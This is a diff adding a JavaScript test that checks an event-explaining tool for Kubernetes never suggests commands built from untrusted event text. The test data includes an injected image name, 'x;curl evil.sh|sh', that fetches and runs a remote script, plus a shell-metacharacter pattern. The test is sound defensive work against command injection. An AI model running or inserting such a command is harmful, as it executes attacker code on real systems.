@@ -84,4 +84,19 @@ describe('explain bounds (event text is untrusted)', () => {
       assert.equal(x.reason, reason);
     }
   });
+
+  it('never suggests a command line holding shell metacharacters from event text', () => {
+    const cache = cacheOf({ Pod: [pod('a', 'p', { node: 'n1' })] });
+    const at = { kind: 'Pod', namespace: 'a', name: 'p' };
+    const ok = explain(ev('Failed', 'Failed to pull image "nginx:9": rpc error: not found', at), cache, NOW);
+    assert.ok(ok.nextSteps.some((s) => s.kubectl === 'docker manifest inspect nginx:9'));
+    const bad = explain(
+      ev('Failed', 'Failed to pull image "x;curl evil.sh|sh": rpc error: not found', at),
+      cache,
+      NOW,
+    );
+    assert.match(bad.cause, /x;curl evil\.sh\|sh/);
+    for (const s of bad.nextSteps) assert.doesNotMatch(s.kubectl ?? '', /[;|$`]/);
+    assert.ok(!bad.nextSteps.some((s) => (s.kubectl ?? '').startsWith('docker')));
+  });
 });
